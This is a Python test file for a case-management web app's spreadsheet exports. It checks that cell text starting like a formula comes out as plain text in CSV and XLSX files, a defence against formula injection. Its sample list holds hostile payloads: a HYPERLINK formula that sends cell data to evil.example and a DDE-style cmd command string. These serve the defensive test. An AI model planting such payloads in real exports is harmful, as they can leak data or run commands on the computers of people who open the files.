"""Issue 16: a case text that starts like a formula is text in every export, never a live
formula (CSV/formula injection). The files are opened as a spreadsheet would. Both databases."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from jiesu.clock import FixedClock
from jiesu.governance.export import render
from jiesu.sheets import csv_dict, csv_row
from tests.api.pages_helpers import login
from tests.conftest import Database
from tests.helpers import DISPATCHER, STREET, do, handler, register

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def texts_in(content: bytes) -> list[tuple[object, str]]:
    ws = load_workbook(io.BytesIO(content)).active
    assert ws is not None
    return [(c.value, c.data_type) for row in ws.iter_rows(min_row=2) for c in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_dispatcher_and_unit_exports_write_formulas_as_text(
    client: TestClient, db: Database, clock: FixedClock, formula: str
) -> None:
    case = register(db, clock, text=formula + " 楼道堆物")
    stored = case.text  # registration strips a leading tab or CR; "=1+1 …" is left
    login(client, "dispatcher")
    resp = client.get("/dispatcher/export?queue=dispatch")
    assert resp.status_code == 200
    cells = texts_in(resp.content)
    assert (stored, "s") in cells
    assert all(kind != "f" for _, kind in cells)

    do(db, clock, DISPATCHER, case.id, "dispatch", lead_unit=STREET)
    do(db, clock, handler(STREET), case.id, "acknowledge", after=timedelta(minutes=5))
    client.cookies.clear()
    login(client, f"unit-{STREET}")
    resp = client.get("/unit/export?box=open")
    assert resp.status_code == 200
    cells = texts_in(resp.content)
    assert (stored, "s") in cells
    assert all(kind != "f" for _, kind in cells)


def test_governance_csv_and_xlsx_exports_write_formulas_as_text(tmp_path: Path) -> None:
    body = {"items": [{"title": f, "count": 3} for f in FORMULAS]}
    out = tmp_path / "topics.xlsx"
    render(body, "items", ["title", "count"], "xlsx", out)
    cells = texts_in(out.read_bytes())
    # XML reads a carriage return back as a newline; the cell is text either way.
    assert [v for v, kind in cells if kind == "s"] == [f.replace("\r", "\n") for f in FORMULAS]
    assert all(kind != "f" for _, kind in cells)
    text = render(body, "items", ["title", "count"], "csv", None)
    assert text is not None
    rows = list(csv.reader(io.StringIO(text)))[1:]
    # In CSV a leading apostrophe marks the cell as text; spreadsheets hide it.
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows] == ["3"] * len(FORMULAS)


def test_csv_cells_leave_ordinary_values_alone() -> None:
    assert csv_row(["楼道堆物", 12, -3, None, "2026-12-07", "a-b"]) == [
        "楼道堆物",
        12,
        -3,
        None,
        "2026-12-07",
        "a-b",
    ]
    assert csv_dict({"text": "=1+1", "n": 1}) == {"text": "'=1+1", "n": 1}
